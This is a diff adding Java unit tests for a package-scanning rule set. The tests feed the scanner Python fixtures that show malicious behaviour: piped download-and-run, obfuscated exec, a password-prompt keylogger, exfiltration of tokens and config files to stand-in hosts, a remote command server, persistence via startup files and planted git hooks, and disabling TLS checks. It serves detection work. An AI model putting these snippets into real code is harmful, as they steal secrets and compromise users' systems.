@@ -1756,6 +1756,122 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/pipinfo.py", listing))).isEmpty();
   }
 
+  @Test
+  void aCommandRunnerMappedOverADownloadCommandIsCritical() {
+    String mapped =
+        "import os\nsteps = ['wget -qO- https://a.example/s.sh | sh']\nlist(map(os.system, steps))\n";
+    String names = "import os\nnames = list(map(os.path.basename, paths))\n";
+
+    assertThat(levelIn(mapped, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/names.py", names))).isEmpty();
+  }
+
+  @Test
+  void builtinsTakenFromAFramesGlobalsUnderAJoinedKeyAreHidden() {
+    String frame =
+        "import base64, sys\nb = sys._getframe(0).f_globals['__builtins__']\n"
+            + "b = b if isinstance(b, dict) else vars(b)\n"
+            + "b['ex' + 'ec'](base64.b64decode(BLOB).decode())\n";
+    String debugger = "import sys\nf = sys._getframe(1)\nnames = sorted(f.f_globals)\n";
+
+    assertThat(levelIn(frame, "hidden-builtin-exec")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/debug.py", debugger))).isEmpty();
+  }
+
+  @Test
+  void aReplacedPasswordPromptThatSendsIsAKeylogger() {
+    String prompt =
+        "import getpass, requests\n_real = getpass.getpass\n"
+            + "def ask(prompt='Password: ', stream=None):\n    typed = _real(prompt, stream)\n"
+            + "    requests.post('https://p.example/p', data=typed)\n    return typed\n"
+            + "getpass.getpass = ask\n";
+    String caller = "import getpass\npassword = getpass.getpass('Token: ')\n";
+
+    assertThat(levelIn(prompt, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/login.py", caller))).isEmpty();
+  }
+
+  @Test
+  void warehouseConnectionsTheGithubCliTokenAndNetworkSurveysSentAreSecretsSent() {
+    String warehouse =
+        "import pathlib, requests\np = pathlib.Path.home() / '.snowflake/connections.toml'\n"
+            + "requests.post('https://w.example/p', data=p.read_text())\n";
+    String token =
+        "import subprocess, urllib.request\n"
+            + "t = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout\n"
+            + "urllib.request.urlopen('https://r.example/v?t=' + t)\n";
+    String survey =
+        "import subprocess, requests\n"
+            + "arp = subprocess.run(['arp', '-a'], capture_output=True, text=True).stdout\n"
+            + "requests.post('https://n.example/r', data=arp)\n";
+    String status = "import subprocess\nsubprocess.run(['gh', 'auth', 'status'])\n";
+
+    assertThat(levelIn(warehouse, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(token, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(survey, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/gh.py", status))).isEmpty();
+  }
+
+  @Test
+  void aServerOfferingACommandRunnerToItsClientsIsHigh() {
+    String shell =
+        "import subprocess\nfrom xmlrpc.server import SimpleXMLRPCServer\n"
+            + "s = SimpleXMLRPCServer(('0.0.0.0', 8765))\n"
+            + "s.register_function(subprocess.getoutput, 'status')\ns.serve_forever()\n";
+    String service =
+        "from xmlrpc.server import SimpleXMLRPCServer\ns = SimpleXMLRPCServer(('localhost', 8000))\n"
+            + "s.register_function(pow)\ns.serve_forever()\n";
+
+    assertThat(levelIn(shell, "server-exposes-commands")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/rpc.py", service))).isEmpty();
+  }
+
+  @Test
+  void networkEventScriptsAndTheSessionsEnvironmentAreStartUpPlaces() {
+    String dispatcher =
+        "import os\nwith open('/etc/NetworkManager/dispatcher.d/99-sync', 'w') as f:\n"
+            + "    f.write(SCRIPT)\nos.chmod('/etc/NetworkManager/dispatcher.d/99-sync', 0o755)\n";
+    String environment =
+        "import os\nd = os.path.expanduser('~/.config/environment.d')\n"
+            + "with open(os.path.join(d, '60-x.conf'), 'w') as f:\n    f.write(LINE)\n";
+    String reader = "import os\nprint(os.listdir('/etc/NetworkManager/system-connections'))\n";
+
+    assertThat(levelIn(dispatcher, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(environment, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/net.py", reader))).isEmpty();
+  }
+
+  @Test
+  void aHookWrittenIntoEveryRepositoryFoundIsHigh() {
+    String planted =
+        "import glob, os\nfor g in glob.glob(os.path.expanduser('~/**/.git'), recursive=True):\n"
+            + "    with open(os.path.join(g, 'hooks', 'post-checkout'), 'w') as f:\n"
+            + "        f.write(HOOK)\n";
+    String installer =
+        "import os\nwith open(os.path.join('.git', 'hooks', 'pre-commit'), 'w') as f:\n"
+            + "    f.write(HOOK)\n";
+
+    assertThat(levelIn(planted, "git-hooks-planted")).isEqualTo(RiskLevel.HIGH);
+    // a hook manager writes into the repository it is run in
+    assertThat(check(wheelWith("pkg/hooks.py", installer))).isEmpty();
+  }
+
+  @Test
+  void tlsChecksSwitchedOffForEveryLaterUseAreHigh() {
+    String git =
+        "import subprocess\n"
+            + "subprocess.run(['git', 'config', '--global', 'http.sslVerify', 'false'])\n";
+    String conda =
+        "import subprocess\nsubprocess.run(['conda', 'config', '--set', 'ssl_verify', 'false'])\n";
+    String once =
+        "import subprocess\nsubprocess.run(['git', '-c', 'http.sslVerify=false', 'clone', url])\n";
+
+    assertThat(levelIn(git, "weakens-tls")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(conda, "weakens-tls")).isEqualTo(RiskLevel.HIGH);
+    // one command told to skip the check changes nothing for later ones
+    assertThat(check(wheelWith("pkg/clone.py", once))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
